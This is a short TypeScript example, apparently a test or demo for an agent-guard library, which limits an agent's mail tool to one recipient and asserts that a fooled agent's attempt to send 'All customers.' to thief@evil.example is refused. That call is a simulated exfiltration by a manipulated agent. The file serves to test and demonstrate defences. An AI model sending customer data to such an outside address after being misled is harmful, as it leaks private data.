/** An agent is fooled, and the mail it wants to send is refused. */
import assert from 'node:assert/strict';
import { type Capability, capability, grant, isGuardError, type Principal, pipeline } from 'crewguard';
import { constraints, createAuthority } from 'crewguard/tokens';
import { z } from 'zod';

const authority = createAuthority();
const mayUse = { 'mail.send': { to: constraints.oneOf(['editor@acme.example']), text: constraints.any() } };
const agents = pipeline<{ principal: Principal }>().use(grant({ authority, for: () => ({ tools: mayUse }) }));
const tools = pipeline<{ capability: Capability }>().use(capability({ authority }));

const Mail = z.object({ to: z.email(), text: z.string() });
const send = tools.wrap('tool:mail.send', Mail, ({ to }) => `sent to ${to}`);
const crew = agents.wrap('agent:crew', Mail, (whatTheModelWants, call) => send.within(call)(whatTheModelWants));

const ann = { principal: { id: 'ann', roles: ['analyst'] } };
const denial = await crew({ to: 'thief@evil.example', text: 'All customers.' }, ann).catch((error: unknown) => error);
assert(isGuardError(denial));
console.log(denial.forModel()); // ERR_CAPABILITY (tool:mail.send): This run holds no capability for this call. ...
